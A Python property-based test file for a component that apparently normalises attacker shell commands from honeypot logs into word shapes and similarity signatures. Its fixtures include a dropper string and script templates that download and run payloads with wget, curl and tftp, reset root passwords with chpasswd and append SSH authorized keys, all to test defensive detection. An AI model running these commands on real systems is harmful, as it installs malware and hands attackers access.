"""Of a command line nothing is kept but words of a closed list; near-equal ones are found alike."""

from __future__ import annotations

from random import Random

from hypothesis import given
from hypothesis import strategies as st

from pipeline.command import (
    COMPONENTS,
    LEAST_SHINGLES,
    MOST_WORDS,
    SHINGLE,
    is_signature,
    reduced,
    shape,
    signature,
    signature_of,
    similarity,
)
from pipeline.command_words import (
    COMMANDS,
    KEEPERS,
    MODES,
    OPERATORS,
    OPTIONS,
    PLACEHOLDERS,
    PLACES,
    VOCABULARY,
)


def _fours(text: str) -> set[str]:
    return {text[at : at + 4] for at in range(len(text) - 3)}


KNOWN = {part for word in VOCABULARY for part in _fours(word)}
DROPPER = (
    "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.7/a.sh -O x9; chmod 777 x9; "
    "sh x9 && rm -rf x9; echo root:Hunter2-clear | chpasswd"
)
_PIECES = (
    *("'", '"', "\\", "\\\\", "$", "$(", "`", ")", "(", "|", "||", "&", "&&", ";", ";;", "\n"),
    *("<", ">", ">>", "2>", "2>&1", "&>", "<<", " ", " ", " ", "\t", "{", "}", "=", "-c", "sh -c "),
    *("http://x.example/y", "198.51.100.7", "[2001:db8::1]:80", "2001:db8::1", "1.2.3.4/x", "/x/y"),
    *("~/.ssh", "/bin/busybox", "/usr/bin/wget ", "A=b", "0x1f", "12", "eval ", "echo ", "chmod "),
    *("é", "日本", "\x00", "\x1b[2J", "\u2028", "\ud800", "hunter2", "URL", "WORD", "NUMBER"),
)
pieces = st.one_of(
    st.sampled_from(_PIECES),
    st.sampled_from(sorted(VOCABULARY)),
    st.text(max_size=6),
)
texts = st.lists(pieces, max_size=40).map("".join) | st.lists(pieces, max_size=40).map(" ".join)


@given(texts)
def test_no_word_leaves_that_is_not_in_the_vocabulary(text: str) -> None:
    """So no part of a text of four characters or more does that is in no word of it."""
    assert set(shape(text)) <= VOCABULARY
    kept = reduced(text)
    for part in _fours(text) - KNOWN:
        assert " " in part or part not in kept


@given(texts)
def test_to_reduce_what_was_reduced_changes_nothing(text: str) -> None:
    assert shape(reduced(text)) == shape(text)
    assert signature_of(reduced(text)) == signature_of(text) == signature(shape(text))


names = st.text("abcdefghijklmnopqrstuvwxyzABCXYZ0123456789", min_size=1, max_size=12).map(
    lambda name: f"q{name}"
)
secrets = st.text(
    st.characters(blacklist_categories=["Cs"], blacklist_characters="'\n"), max_size=20
)
SCRIPTS = (
    "cd /tmp; wget http://{host}/{file} -O {file}; chmod 777 {file}; ./{file} {ip}; rm -rf {file}",
    'sh -c "cd /tmp; curl -o {file} https://{host}/{file}/{file}; sh {file} {ip}" && exit',
    "echo 'root:{secret}' | chpasswd; useradd -m {file}; echo '{secret}' | passwd --stdin {file}",
    "echo '{secret}' >> /root/.ssh/authorized_keys; passwd {file} '{secret}'; PASS='{secret}' ls",
    "tftp {ip} -c get {file}; busybox tftp -r {file} -g {ip}; /bin/busybox chmod +x {file}; export A=b",
)


@given(st.sampled_from(SCRIPTS), *[st.fixed_dictionaries(
    {"host": names, "file": names, "ip": st.sampled_from(["198.51.100.7", "203.0.113.9", "1.2.3.4"]),
     "secret": secrets}
)] * 2)  # fmt: skip
def test_what_differs_in_names_addresses_and_passwords_is_the_same(
    script: str, one: dict[str, str], other: dict[str, str]
) -> None:
    assert shape(script.format(**one)) == shape(script.format(**other))


def test_words_stand_for_themselves_where_they_say_what_is_done() -> None:
    for word in COMMANDS:
        assert shape(word) == (word,)
    for word in OPTIONS:
        assert shape(f"wget {word}") == ("wget", word)
    for word in PLACES:
        assert shape(f"ls {word}") == ("ls", word)
        assert shape(f"ls > {word}") == ("ls", ">", word)
    for word in MODES:
        assert shape(f"chmod {word} ls") == ("chmod", word, "WORD")
    for word in OPERATORS:
        assert shape(f"ls {word} cat")[:2] == ("ls", word)
    for word in PLACEHOLDERS:
        assert shape(f"ls {word}") == ("ls", word)


def test_a_password_that_is_a_word_of_the_vocabulary_stays_untold() -> None:
    for word in sorted(COMMANDS | PLACES | MODES):
        for tool in sorted(KEEPERS - {"su"}):
            assert shape(f"{tool} {word} '{word}'") == (tool, "WORD")
    assert reduced("echo root:wget|chpasswd") == "echo WORD | chpasswd"
    assert reduced("mysql -uroot -pwget -e 'drop table x'") == "mysql WORD -e WORD"


def test_it_is_as_it_is_told() -> None:
    assert reduced(DROPPER) == (
        "cd /tmp || cd /var/run || cd /mnt ; wget URL -O WORD ; chmod 777 WORD ; "
        "sh WORD && rm -rf WORD ; echo WORD | chpasswd"
    )
    assert reduced("/bin/busybox sh -c \"cd /tmp;w'g'et 1.2.3.4/x\" 2>/dev/null &") == (
        "busybox sh -c cd /tmp ; wget URL 2> /dev/null &"
    )
    assert reduced("for i in a b c; do nohup ./$i 10.0.0.1 22 `uname -m` >x 2>&1; done") == (
        "for WORD ; do nohup PATH ADDRESS NUMBER ` uname -m ` > WORD 2>&1 ; done"
    )


def test_what_is_too_short_tells_nothing() -> None:
    for text in ("", "ls", "uname -a", "cat /proc/cpuinfo", "uname -s -v -n -r -m", "ls " * 500):
        assert signature_of(text) is None
    assert signature(tuple(f"{n}" for n in range(LEAST_SHINGLES + SHINGLE - 2))) is None


def test_a_signature_is_the_same_everywhere() -> None:
    """Pinned: another value would part what is told before from what is told after."""
    found = signature_of(DROPPER)
    assert found == "bda2984b5fbccf7a431d8d1a4f325009"
    assert found is not None
    assert is_signature(found)
    assert not is_signature(found[1:])
    assert not is_signature(found[1:] + "g")


def test_however_much_is_typed_it_is_bounded() -> None:
    much = 1 << 18
    for piece in (
        "a",
        "a ",
        "'",
        '"',
        "\\",
        "$(",
        "`",
        "sh -c '",
        "x'y' ",
        "wget -q ",
        ";",
        "1:",
        "A=",
    ):
        text = piece * (much // len(piece))
        assert len(shape(text)) <= MOST_WORDS
        assert shape(reduced(text)) == shape(text)


def test_signatures_tell_how_alike_shapes_are() -> None:
    """Against the plain way, the part of all shingles that both have: right on average, and no
    further off than so many components can tell.
    """
    dice = Random(7)
    errors: list[float] = []
    for _ in range(600):
        words = [f"w{dice.randrange(400)}" for _ in range(dice.randint(12, 60))]
        others = [
            f"v{dice.randrange(400)}" if dice.random() < 0.2 * dice.random() else word
            for word in words
        ]
        if dice.random() < 0.3:
            others = others[dice.randrange(len(others) // 2) :]
        runs = [
            {tuple(of[n : n + SHINGLE]) for n in range(len(of) - SHINGLE + 1)}
            for of in (words, others)
        ]
        one, other = signature(words), signature(others)
        if one is None or other is None:
            continue
        errors.append(similarity(one, other) - len(runs[0] & runs[1]) / len(runs[0] | runs[1]))
    assert len(errors) > 500
    bound = (0.25 / COMPONENTS) ** 0.5 / (1 - 1 / 16)  # of one, at the worst
    assert abs(sum(errors) / len(errors)) < 3 * bound / len(errors) ** 0.5
    assert (sum(error**2 for error in errors) / len(errors)) ** 0.5 < bound
    assert max(map(abs, errors)) < 5 * bound
